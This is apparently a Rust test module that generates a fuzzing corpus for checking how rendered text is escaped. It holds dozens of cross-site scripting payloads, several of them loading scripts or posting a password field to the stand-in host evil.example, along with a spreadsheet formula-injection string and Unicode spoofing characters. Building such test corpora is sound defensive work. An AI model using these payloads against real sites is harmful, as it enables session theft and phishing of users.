//! Text as somebody would write it who knows that it ends up on a page or in a report.

/// What closes something before the attack begins, or hides where it does.
const BEFORE: [&str; 12] = [
    "'>",
    "\"'>",
    "</title>",
    "</style>",
    "-->",
    "--><!--",
    "]]>",
    "</text></svg>",
    "</svg></table></details>",
    "&quot;>",
    "\u{202e}\u{2066}\u{feff}",
    "\0\u{1b}[2J\r\n",
];

/// What every attack comes after: nothing, the end of an attribute, and the end of what holds text alone.
const ALWAYS_BEFORE: [&str; 3] = ["", "\">", "</title></textarea></style>"];

/// The attacks; the first of them come after everything.
pub(super) const ATTACKS: [&str; 48] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">here</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<p style=\"background:url(http://evil.example/x.png)\">",
    "<base href=//evil.example/>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=`x` onerror=alert(1)//",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav\tascript:alert(1)\">here</a>",
    "<a href='  java&#x0A;script:alert(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">here</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example/x.swf>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<form action=//evil.example/><button>continue</button></form>",
    "<form action=https://evil.example/><input name=password>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<within>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}<%= 7*7 %>#{7*7}",
];

/// Attacks that come after everything.
const STRONGEST: usize = 8;

/// What is no attack on markup.
const STRANGE: [&str; 12] = [
    "",
    " ",
    "\u{202e}gpj.exe",
    "\u{2066}a\u{2069}\u{200f}b\u{200b}c",
    "\0\u{1}\u{7}\u{8}\u{b}\u{1b}[31mred\u{1b}[0m\u{7f}\u{85}",
    "line\r\nfeed\ttab\u{2028}separator\u{2029}",
    "\u{feff}mark\u{fffe}\u{ffff}\u{10ffff}",
    "Ｈａｌｆｗｉｄｔｈ 东京 Straße naïve Ελλάδα Россия עברית العربية 🙂👩‍👩‍👧",
    "Z\u{0351}\u{0306}a\u{0315}l\u{0489}g\u{0337}o",
    "=cmd|' /C calc'!A0",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
];

/// What is written until ten thousand characters are full.
const ENDLESS: [&str; 8] =
    ["x", "é", "界", "<b>", "a b ", "<script>", "\"><img src=x onerror=alert(1)>", "\u{202e}harmless"];

/// More than two hundred texts: attacks on markup, control characters, marks that turn a text, and endless ones.
pub(super) fn corpus() -> Vec<String> {
    let after = |before: &'static str| move |attack: &&str| format!("{before}{attack}");
    let mut texts: Vec<String> =
        ALWAYS_BEFORE.into_iter().flat_map(|before| ATTACKS.iter().map(after(before))).collect();
    texts.extend(BEFORE.into_iter().flat_map(|before| ATTACKS[..STRONGEST].iter().map(after(before))));
    texts.extend(STRANGE.map(str::to_owned));
    texts.extend(ENDLESS.map(|part| part.repeat(10_000 / part.chars().count())));
    texts
}
